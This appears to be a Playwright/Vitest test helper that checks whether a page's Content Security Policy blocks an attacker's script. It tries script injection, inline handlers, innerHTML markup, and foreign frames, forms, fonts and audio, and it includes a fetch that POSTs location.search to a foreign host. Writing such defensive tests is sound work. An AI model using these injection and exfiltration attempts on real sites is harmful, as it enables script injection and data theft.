import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { words } from '../unit/words.ts';

/** What the content policy refuses of an attack. */
const REFUSED = words(`connect-src font-src form-action frame-src handler markup media-src
require-trusted-types-for text`);

/** Runs in a page: tries what an attacker's script would try, and notes what the browser refuses. */
async function tryEverything(elsewhere: string): Promise<void> {
  const refused = new Set<string>();
  Object.assign(window, { refused });
  addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
  const run = 'window.owned = 1';
  const script = document.createElement('script');
  const inline = document.createElement('script');
  inline.append(run);
  const tries: Record<string, () => unknown> = {
    text: () => Object.assign(script, { text: run }),
    markup: () => Object.assign(document.createElement('div'), { innerHTML: '<img src=x>' }),
    handler: () => document.body.setAttribute('onclick', run),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      attempt();
    } catch {
      refused.add(name);
    }
  }
  const frame = Object.assign(document.createElement('iframe'), { src: elsewhere });
  const posted = { method: 'post', action: elsewhere };
  const form = Object.assign(document.createElement('form'), posted);
  document.body.append(script, inline, frame, form);
  document.body.click();
  form.submit();
  await Promise.allSettled([
    fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: location.search }),
    new Audio(elsewhere).play(),
    new FontFace('foreign', `url(${elsewhere})`).load(),
  ]);
}

/** Expects that the browser refuses what an attacker's script would try in a page, and runs none of it. */
export async function expectNoAttack(page: Page, foreign: string): Promise<void> {
  await page.evaluate(tryEverything, foreign);
  // The browser reports a refusal with a delay.
  const refused = () => page.evaluate(() => [...Object(window).refused].sort());
  await expect.poll(refused).toEqual(REFUSED);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
}
